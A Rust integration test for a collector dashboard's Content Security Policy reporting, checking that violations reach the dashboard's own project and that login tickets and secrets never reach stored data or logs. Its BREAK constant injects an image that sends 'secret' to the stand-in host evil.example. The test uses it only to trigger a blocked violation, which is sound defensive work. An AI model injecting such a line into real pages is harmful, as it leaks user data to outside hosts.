//! The dashboard's own policy, and what breaks it: reported to a project of the collector that
//! serves it, by a real Chromium.

use std::fs;

use anyhow::{Context, Result, ensure};
use corncrake_tests::{
    browser::Browser,
    collector::{Collector, CollectorOptions, UNSET},
    inspect::search::holding,
};
use serde_json::json;

/// Adds an image of elsewhere, which our policy blocks.
const BREAK: &str =
    "document.body.append(Object.assign(new Image(), { src: 'https://evil.example/a.png?t=secret' }))";

fn key_of(collector: &Collector, name: &str) -> Result<Option<String>> {
    let projects = collector.get("/api/projects")?;
    let all = projects["projects"].as_array().context("no projects")?;
    let found = all.iter().find(|project| project["name"] == name);
    Ok(found.and_then(|project| project["key"].as_str()).map(str::to_owned))
}

#[tokio::test(flavor = "multi_thread")]
async fn a_violation_of_the_dashboard_is_an_issue_of_its_project() -> Result<()> {
    let options = CollectorOptions {
        environment: vec![("CSP_REPORT_PROJECT", UNSET.to_owned())],
        ..CollectorOptions::default()
    };
    let mut collector = Collector::start_with(options)?;
    let own = key_of(&collector, "dashboard")?.context("npm start makes no project of its own")?;
    let key = collector.project("shop", &["*"])?;
    let browser = Browser::open().await?;
    let link = collector.login_link()?;
    browser.goto(&link).await?;
    browser.goto(&format!("{}/projects/{key}/issues?query=somebody", collector.address())).await?;
    browser.run(BREAK).await?;
    let issue = collector.wait_for_issue(&own, "img-src")?;
    let event = &issue["event"];
    ensure!(
        event["uri"].as_str().is_some_and(|page| page.ends_with(&format!("/projects/{key}/issues"))),
        "{issue}"
    );
    let text = issue.to_string();
    ensure!(
        text.contains("evil.example") && !text.contains("somebody") && !text.contains("secret"),
        "{issue}"
    );

    // A page whose address is a login link has no endpoint for reports, whether the link works or not.
    let ticket = link.rsplit('/').next().context("no ticket")?;
    for path in ["/login".to_owned(), format!("/login/{ticket}x"), "/nothing".to_owned(), "/demo/".to_owned()]
    {
        let answer = collector.request("GET", &path, &[], b"")?;
        let policy = answer.header("content-security-policy");
        ensure!(policy.contains("default-src") && !policy.contains("report"), "{path}: {policy}");
    }
    browser.goto(&format!("{}/login/{ticket}x", collector.address())).await?;
    browser.run(BREAK).await?;
    browser.goto(&format!("{}/projects/{own}", collector.address())).await?;
    browser.run(BREAK).await?;
    let is_counted = || -> Result<bool> { Ok(collector.issues(&own)?[0]["events"] == 2) };
    corncrake_tests::wait::eventually("the second report", || Ok(is_counted()?.then_some(())))?;
    ensure!(holding(&collector.data(), ticket.as_bytes())? == 0, "the login link is in the data");
    ensure!(!collector.log()?.contains(ticket), "the login link is logged");

    // The next start knows it, and makes no other.
    ensure!(collector.interrupt()? == Some(0));
    collector.start_again()?;
    ensure!(key_of(&collector, "dashboard")?.as_ref() == Some(&own));

    // Nor does one that finds the project alone, as a start leaves it that was broken off.
    ensure!(collector.interrupt()? == Some(0));
    fs::remove_file(collector.data().join("own-project"))?;
    collector.start_again()?;
    let projects = collector.get("/api/projects")?;
    let all = projects["projects"].as_array().context("no projects")?;
    let found: Vec<_> = all.iter().filter(|project| project["name"] == "dashboard").collect();
    ensure!(found.len() == 1 && found[0]["key"] == own.as_str(), "{found:?}");
    ensure!(found[0]["origins"] == json!(["*"]), "a proxy may give it any address: {found:?}");
    ensure!(fs::read_to_string(collector.data().join("own-project"))? == own);
    Ok(())
}

#[test]
fn nobody_named_a_project_and_nothing_is_asked_for() -> Result<()> {
    let collector = Collector::start()?;
    ensure!(key_of(&collector, "dashboard")?.is_none());
    let link = collector.login_link()?;
    let path = link.strip_prefix(&collector.address()).context("no path")?;
    let cookie = collector.request("GET", path, &[], b"")?.header("set-cookie").to_owned();
    let cookie = cookie.split(';').next().unwrap_or_default();
    let page = collector.request("GET", "/", &[("cookie", cookie)], b"")?;
    ensure!(page.status == 200 && !page.header("content-security-policy").contains("report"), "{page:?}");
    Ok(())
}
